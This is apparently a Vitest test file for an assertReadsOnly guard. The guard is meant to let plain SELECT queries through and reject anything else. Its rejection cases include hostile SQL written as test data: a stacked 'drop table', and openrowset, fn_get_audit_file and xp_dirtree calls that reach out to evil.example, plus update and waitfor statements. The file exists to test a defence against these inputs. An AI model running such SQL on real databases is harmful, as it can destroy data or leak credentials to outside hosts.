import { describe, expect, test } from 'vitest'
import { assertReadsOnly } from './assert-reads-only.ts'

test.each([
  'select top 10 faultid, symptom from faults order by faultid desc',
  "select [update], 'drop table x' as note from faults -- delete",
  'with open_ones as (select faultid from faults) select count(*) from open_ones',
  'SELECT date_updated, is_deleted FROM faults /* exec */',
])('%s passes', (sql) => {
  expect(() => assertReadsOnly(sql)).not.toThrow()
})

describe('what is no plain query is refused', () => {
  test.each([
    ['delete from faults', 'begins with select'],
    ['select 1; drop table faults', 'semicolon'],
    ['select * into copy from faults', 'into'],
    ["select * from openrowset('SQLNCLI', 'server=evil.example', 'select 1')", 'openrowset'],
    ["select * from sys.[fn_get_audit_file]('\\\\evil.example\\x', null, null)", 'fn_get_audit_file'],
    ["select 1 where exists (select 1 from faults) exec xp_dirtree '\\\\evil.example\\x'", 'exec'],
    ["with x as (select 1 a) update faults set symptom = ''", 'update'],
    ["waitfor delay '1:00'", 'begins with select'],
  ])('%s', (sql, word) => {
    expect(() => assertReadsOnly(sql)).toThrow(word)
  })
})
